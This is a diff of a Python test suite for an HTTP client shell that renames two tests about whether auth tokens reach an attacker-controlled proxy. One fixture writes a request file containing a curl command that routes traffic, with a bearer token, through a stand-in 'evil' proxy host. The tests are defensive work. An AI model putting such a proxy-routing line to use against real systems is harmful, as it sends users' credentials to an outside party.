@@ -98,7 +98,7 @@ def test_a_flag_of_the_line_lets_it_go_too(shell, api, evil) -> None:
     assert TOKEN.encode() in evil.seen
 
 
-def test_again_does_not_forget_that_a_file_said_the_way(shell, api, evil) -> None:
+def test_again_treats_options_of_a_file_as_options_of_a_file(shell, api, evil) -> None:
     Path("evil.http").write_text(f"curl -x {evil.url} {api.url}/echo")
     shell.say("replay evil.http", f"set auth bearer {TOKEN}")
 
@@ -141,7 +141,7 @@ def test_nor_what_was_typed_with_the_request(shell, lab, typed) -> None:
     assert "Not sent: the file says verify no" in shell.fail(f"get /echo {typed}")
 
 
-def test_by_an_environments_way_goes_what_is_nobodys(shell, lab) -> None:
+def test_requests_without_credentials_use_the_options_of_an_environment(shell, lab) -> None:
     assert shell.record("get /echo X-Plain:1 q==2").response.status == 200
 
 
